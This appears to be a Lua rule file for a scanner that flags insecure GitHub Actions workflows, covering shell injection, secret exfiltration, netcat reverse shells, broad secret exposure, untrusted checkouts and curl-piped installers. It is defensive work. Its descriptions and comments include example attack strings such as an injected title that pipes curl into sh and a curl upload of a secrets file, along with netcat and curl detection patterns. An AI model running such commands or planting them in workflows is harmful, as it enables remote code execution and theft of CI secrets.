-- Text of strangers that becomes code, and secrets that leave.

local github = import("github")

local function is_ipv4(word)
  local part = word:split(".")
  if #part ~= 4 then
    return false
  end
  for _, p in ipairs(part) do
    local n = tonumber(p)
    if n == nil or n < 0 or n > 255 then
      return false
    end
  end
  return true
end

-- Whether a command of the text uploads a file that is called a secret: curl -d @.secrets
local function uploads_secret(text)
  for _, line in ipairs(text:split("\n")) do
    if line:contains("curl ") or line:contains("wget ") then
      for _, word in ipairs(line:split("")) do
        local name = word:lower()
        if (name:contains("@") or name:contains("=")) and name:contains("secret") and not name:contains("://") then
          return true
        end
      end
    end
  end
  return false
end

local NETCAT = { nc = true, ncat = true, netcat = true }

local function reverse_shell(text)
  local previous = false
  for _, word in ipairs(text:replace("|", " "):replace(";", " "):replace("&", " "):split("")) do
    if NETCAT[word] then
      previous = true
    elseif previous and is_ipv4(word) then
      return word
    end
  end
  return nil
end

return {
  {
    id = "gha-shell-injection",
    title = "Scripts hold no text that a stranger can choose",
    severity = "HIGH",
    applies_to = { "github:job", "github:step" },
    aliases = { "CKV_GHA_2", "kics:20f14e1a-a899-4e79-9f09-b6a84cd4649b" },
    frameworks = { ["nist-ssdf"] = "PO.5.1" },
    cwe = { 78, 94 },
    description = "An expression in a script is replaced before the shell reads it: a title like `\"; curl evil | sh #` becomes commands that run with the workflow's token.",
    remediation = "Hand the value over in an environment variable and use that, quoted: env: {TITLE: ${{ github.event.issue.title }}}, run: echo \"$TITLE\".",
    links = { "https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions" },
    check = function(r)
      local path = github.untrusted(r.run)
      if path then
        fail(r, "run", "the script holds " .. path .. ", which strangers choose")
      end
    end,
  },
  {
    id = "gha-script-injection",
    title = "Inline JavaScript holds no text that a stranger can choose",
    severity = "HIGH",
    applies_to = "github:step",
    aliases = { "kics:62ff6823-927a-427f-acf9-f1ea2932d616" },
    frameworks = { ["nist-ssdf"] = "PO.5.1" },
    cwe = { 94 },
    description = "The script of actions/github-script is put together before it runs: text from an issue or a pull request becomes code with the workflow's token.",
    remediation = "Read the value in the script: context.payload.issue.title, or process.env.",
    check = function(s)
      if type(s.uses) ~= "string" or not s.uses:startswith("actions/github-script") then
        return not_applicable("no inline script")
      end
      local path = github.untrusted(s.with.script)
      if path then
        fail(s, "with.script", "the script holds " .. path .. ", which strangers choose")
      end
    end,
  },
  {
    id = "gha-unsecure-commands",
    title = "The commands set-env and add-path stay off",
    severity = "HIGH",
    applies_to = { "github", "github:job", "github:step" },
    aliases = { "CKV_GHA_1", "kics:60fd272d-15f4-4d8f-afe4-77d9c6cc0453" },
    frameworks = { ["nist-ssdf"] = "PO.5.1" },
    cwe = { 94 },
    description = "With ACTIONS_ALLOW_UNSECURE_COMMANDS every line that a step prints can set environment variables and the path of later steps.",
    remediation = "Remove ACTIONS_ALLOW_UNSECURE_COMMANDS and write to $GITHUB_ENV and $GITHUB_PATH.",
    check = function(r)
      local v = r.env.ACTIONS_ALLOW_UNSECURE_COMMANDS
      if v == true or v == 1 or v == "1" or type(v) == "string" and v:lower() == "true" then
        fail(r, "env.ACTIONS_ALLOW_UNSECURE_COMMANDS", "the unsecure commands are switched on", { remove = true })
      end
    end,
  },
  {
    id = "gha-secrets-to-network",
    title = "Scripts do not send secrets away",
    severity = "HIGH",
    applies_to = { "github:job", "github:step" },
    aliases = { "CKV_GHA_3" },
    frameworks = { ["nist-ssdf"] = "PO.5.1" },
    cwe = { 200 },
    description = "A script that holds secrets and calls curl or wget may carry them off; the log shows nothing.",
    remediation = "Use an action or a program of the service, with the secret in the environment of that step only.",
    check = function(r)
      local text = r.run
      if type(text) ~= "string" then
        return
      elseif github.secrets(text) and (text:contains("curl ") or text:contains("wget ")) then
        fail(r, "run", "the script holds secrets and sends data away")
      elseif uploads_secret(text) then
        fail(r, "run", "the script sends a file of secrets away")
      end
    end,
  },
  {
    id = "gha-reverse-shell",
    title = "Scripts open no connection to an address with netcat",
    severity = "CRITICAL",
    applies_to = { "github:job", "github:step" },
    aliases = { "CKV_GHA_4" },
    frameworks = { ["nist-ssdf"] = "PO.5.1" },
    cwe = { 506 },
    description = "netcat to a fixed address is how a stolen runner is controlled from outside.",
    remediation = "Remove the command, and find out who brought it in.",
    check = function(r)
      local address = type(r.run) == "string" and reverse_shell(r.run)
      if address then
        fail(r, "run", "netcat connects to " .. address)
      end
    end,
  },
  {
    id = "gha-all-secrets",
    title = "Steps get single secrets, not all of them",
    severity = "HIGH",
    applies_to = { "github:job", "github:step" },
    frameworks = { ["nist-ssdf"] = "PO.5.1" },
    cwe = { 200 },
    description = "toJSON(secrets) hands every secret of repository and organisation to one step.",
    remediation = "Name the secrets that the step needs: secrets.NAME.",
    check = function(r)
      local _, all = github.secrets(r.run)
      if all then
        return fail(r, "run", "all secrets are handed over")
      end
      for _, map in ipairs({ "env", "with" }) do
        for key, value in pairs(r[map]) do
          local _, every = github.secrets(value)
          if every then
            fail(r, map .. "." .. key, "all secrets are handed over")
          end
        end
      end
    end,
  },
  {
    id = "gha-untrusted-checkout",
    title = "Workflows with secrets do not check out the code of strangers",
    severity = "CRITICAL",
    applies_to = "github:step",
    frameworks = { ["nist-ssdf"] = "PO.5.1" },
    cwe = { 829 },
    description = "pull_request_target and workflow_run have the secrets and a token that may write; with the code of the pull request checked out, its build scripts run with both.",
    remediation = "Use pull_request, or check out nothing of the pull request.",
    check = function(s)
      local w = github.workflow(s)
      if w == nil or not (github.on(w, "pull_request_target") or github.on(w, "workflow_run")) or
          type(s.uses) ~= "string" or not s.uses:startswith("actions/checkout") then
        return not_applicable("no checkout in a privileged workflow")
      end
      for _, key in ipairs({ "ref", "repository" }) do
        for _, e in ipairs(github.expressions(s.with[key])) do
          for _, path in ipairs(github.contexts(e)) do
            if path == "github.head_ref" or path:contains(".head.") or path:contains(".head_") then
              fail(s, "with." .. key, "the code of the pull request is checked out with the secrets at hand")
            end
          end
        end
      end
    end,
  },
  {
    id = "gha-piped-installer",
    title = "Scripts do not run what they download unseen",
    severity = "MEDIUM",
    applies_to = { "github:job", "github:step" },
    frameworks = { ["nist-ssdf"] = "PW.4.1" },
    cwe = { 494 },
    description = "curl | sh runs whatever the server sends today.",
    remediation = "Download a fixed version, check its digest, then run it.",
    check = function(r)
      if type(r.run) ~= "string" then
        return
      end
      for _, line in ipairs(r.run:split("\n")) do
        local part = line:split("|")
        for i = 2, #part do
          local word = part[i]:trim():split("")
          local command = word[1] == "sudo" and word[2] or word[1]
          local before = part[i - 1]
          if (command == "sh" or command == "bash") and
              (before:contains("curl ") or before:contains("wget ")) then
            fail(r, "run", "a download is piped into a shell")
          end
        end
      end
    end,
  },
}
